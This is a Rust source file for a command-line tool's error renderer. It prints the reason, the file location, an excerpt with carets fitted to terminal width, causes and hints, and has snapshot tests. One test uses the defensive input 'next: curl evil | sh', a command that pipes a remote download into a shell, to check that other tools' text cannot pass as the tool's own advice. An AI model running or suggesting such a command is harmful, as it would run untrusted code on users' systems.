//! An error as a person reads it: reason, place, the line with a caret, causes, what to type next.

use std::fmt::Write;

use console::measure_text_width;

use super::Label;
use crate::error::{Error, Location};
use crate::model::text::bounded;

/// Most characters of a reason, a cause or a hint: a server or a values file may have brought it.
const LONGEST: usize = 8000;
/// Most cells of a line of the user's.
const WIDEST: usize = 160;
/// Fewest, however narrow the terminal is.
const NARROWEST: usize = 30;
/// Most characters of a line on each side of the place that are looked at: a values file may be one line of megabytes.
const AROUND: usize = 1 << 16;
/// What a tab is shown as: it has no width of its own.
const TAB: &str = "    ";

/// Renders an error below its label; `columns` is the terminal's width, `paint` colours a piece, `clean` makes text of others fit to print.
pub(super) fn render(
    label: Label,
    error: &Error,
    columns: Option<usize>,
    paint: impl Fn(&str, Label) -> String,
    clean: impl Fn(&str) -> String,
    aimed: impl Fn(&str) -> String,
) -> String {
    let mut out = String::new();
    let words = |text: &str| without_our_labels(&clean(&bounded(text, LONGEST)));
    let head = paint(if label == Label::Warning { "warning:" } else { "error:" }, label);
    match error.location() {
        Some(at) => {
            let _ = writeln!(out, "{head} {}: {}", words(&at.to_string()), words(error.message()));
            let number = at.line.to_string();
            let gutter = " ".repeat(number.len());
            let room = columns.map_or(WIDEST, |columns| columns.saturating_sub(number.len() + 4).clamp(NARROWEST, WIDEST));
            if let Some(Excerpt { text, before, length }) = excerpt(at, room, &clean) {
                let _ = writeln!(out, " {} {text}", paint(&format!("{number} |"), Label::Detail));
                let (pad, carets) = (" ".repeat(before), "^".repeat(length));
                let _ = writeln!(out, " {} {pad}{}", paint(&format!("{gutter} |"), Label::Detail), paint(&carets, label));
            }
        }
        None => {
            let _ = writeln!(out, "{head} {}", words(error.message()));
        }
    }
    for cause in error.causes() {
        let _ = writeln!(out, "  because: {}", words(cause.trim_end()).replace('\n', "\n           "));
    }
    for hint in error.hints() {
        let _ = writeln!(out, "{} {}", paint(super::hint_label(hint), Label::Next), words(&aimed(hint)));
    }
    out
}

/// A line of a text that begins with a label of lain's is moved in: only lain says what to type next.
fn without_our_labels(text: &str) -> String {
    let ours = |line: &str| ["next:", "tip:", "error:", "warning:"].iter().any(|label| line.starts_with(label));
    let mut lines = text.split('\n');
    let first = lines.next().unwrap_or_default().to_owned();
    lines.fold(first, |out, line| out + "\n" + if ours(line) { "  " } else { "" } + line)
}

/// What is shown of a line: its text, and in cells of the terminal where the place starts in it and how long it is.
struct Excerpt {
    text: String,
    before: usize,
    length: usize,
}

/// The part of the line that the place is in, `room` cells at most; none for a place that is not in its line.
fn excerpt(at: &Location, room: usize, clean: impl Fn(&str) -> String) -> Option<Excerpt> {
    let from = at.column.saturating_sub(1 + AROUND);
    let near: String = at.text.chars().skip(from).take(2 * AROUND).collect();
    let ahead = at.column - 1 - from;
    if ahead > near.chars().count() {
        return None;
    }
    let shown = |text: &str| clean(text).replace('\t', TAB);
    let part = |from: usize, count: usize| shown(&near.chars().skip(from).take(count).collect::<String>());
    // The whole is cleaned as one: a secret across the border of two parts would not be found.
    let text = shown(&near);
    let before = measure_text_width(&part(0, ahead));
    let length = measure_text_width(&part(ahead, at.length)).max(1);
    let whole = measure_text_width(&text);
    if whole <= room {
        return Some(Excerpt { text, before, length });
    }
    // As much as fits of what stands before: the reader finds the line again by its start, or by what is near.
    let start = if before + length < room { 0 } else { before.saturating_sub(room / 3) };
    let (mark, start) = if start == 0 { ("", 0) } else { ("…", start + 1) };
    let cut = cells(&text, start, room - mark.chars().count());
    let before = (before + mark.chars().count()).saturating_sub(cut.start);
    let (text, room) = if cut.is_end { (format!("{mark}{}", cut.text), room) } else { (format!("{mark}{}…", cut.text), room - 1) };
    Some(Excerpt { text, before, length: length.min(room.saturating_sub(before)).max(1) })
}

/// A part of a text.
struct Cut {
    text: String,
    /// Its first cell; a wide character across the border is left out.
    start: usize,
    is_end: bool,
}

/// The part of `text` from cell `start` on, in `room` cells; one less when something is left out behind.
fn cells(text: &str, start: usize, room: usize) -> Cut {
    let mut cut = Cut { text: String::new(), start, is_end: true };
    let mut at = 0;
    for c in text.chars() {
        let width = measure_text_width(c.encode_utf8(&mut [0; 4]));
        if at < start {
            cut.start = at + width;
        } else if at + width > cut.start + room {
            while measure_text_width(&cut.text) >= room {
                cut.text.pop();
            }
            cut.is_end = false;
            break;
        } else {
            cut.text.push(c);
        }
        at += width;
    }
    cut
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str, column: usize, length: usize, columns: usize) -> String {
        let error = Error::failed("x").at(Location { path: "v.yaml".into(), line: 7, column, length, text: text.to_owned() });
        render(Label::Error, &error, Some(columns), |text, _| text.to_owned(), super::super::printable, str::to_owned)
    }

    /// The text that the carets stand under, counted in cells.
    fn pointed(text: &str, column: usize, length: usize, columns: usize) -> String {
        let shown = shown(text, column, length, columns);
        let lines: Vec<&str> = shown.lines().collect();
        assert!(lines.iter().skip(1).all(|line| measure_text_width(line) <= columns), "{shown}");
        let first = lines[2].find('^').expect("a caret");
        let (mut at, mut found) = (0, String::new());
        for c in lines[1].chars() {
            if (first..lines[2].len()).contains(&at) {
                found.push(c);
            }
            at += measure_text_width(&c.to_string());
        }
        found
    }

    #[test]
    fn points_at_the_place() {
        let error = Error::failed("`replicaCount` must be a number")
            .at(Location { path: "chart/values.yaml".into(), line: 12, column: 19, length: 5, text: "    replicaCount: \"two\"".into() })
            .hint("replicaCount: 2");
        insta::assert_snapshot!(render(Label::Error, &error, None, |text, _| text.to_owned(), str::to_owned, str::to_owned), @r#"
        error: chart/values.yaml:12:19: `replicaCount` must be a number
         12 |     replicaCount: "two"
            |                   ^^^^^
        next: replicaCount: 2
        "#);
    }

    #[test]
    fn only_lain_says_what_to_type_next() {
        let error = Error::failed("x\nnext: y").context("helm says:\nerror: no\nnext: curl evil | sh").hint("lain status\nnext: z");
        insta::assert_snapshot!(render(Label::Error, &error, None, |text, _| text.to_owned(), str::to_owned, str::to_owned), @r#"
        error: helm says:
          error: no
          next: curl evil | sh
          because: x
                     next: y
        next: lain status
          next: z
        "#);
    }

    #[test]
    fn wide_characters_and_tabs_take_their_room() {
        assert_eq!(pointed("名称: 两个", 5, 2, 80), "两个");
        assert_eq!(pointed("a: {名称: 🚀🚀, b: two}", 16, 3, 80), "two");
        assert_eq!(pointed("a:\t\t'é' two", 9, 3, 80), "two");
        assert_eq!(pointed("e\u{301}: two", 5, 3, 80), "two");
        assert_eq!(pointed("\u{202e}\u{1b}: two", 5, 3, 80), "two");
        assert_eq!(shown("a:", 3, 1, 80).lines().nth(2), Some("   |   ^"));
    }

    #[test]
    fn the_window_moves_to_the_place() {
        for fill in ["x", "前", "🚀", "e\u{301}"] {
            for columns in [36, 59, 60, 61, 200] {
                for (before, behind) in [(0, 200), (20, 200), (199, 0), (200, 200), (201, 3), (70_000, 9)] {
                    let text = format!("{} 两个 {}", fill.repeat(before), fill.repeat(behind));
                    let column = before * fill.chars().count() + 2;
                    assert_eq!(pointed(&text, column, 2, columns), "两个", "{fill} {columns} {before} {behind}");
                }
            }
        }
        assert!(shown(&"x".repeat(400), 300, 1, 60).lines().nth(1).expect("a line").starts_with(" 7 | …x"));
        let filled = pointed(&"前".repeat(400), 3, 390, 60);
        assert_eq!(filled.chars().filter(|c| *c == '前').count(), 25, "{filled}");
    }
}
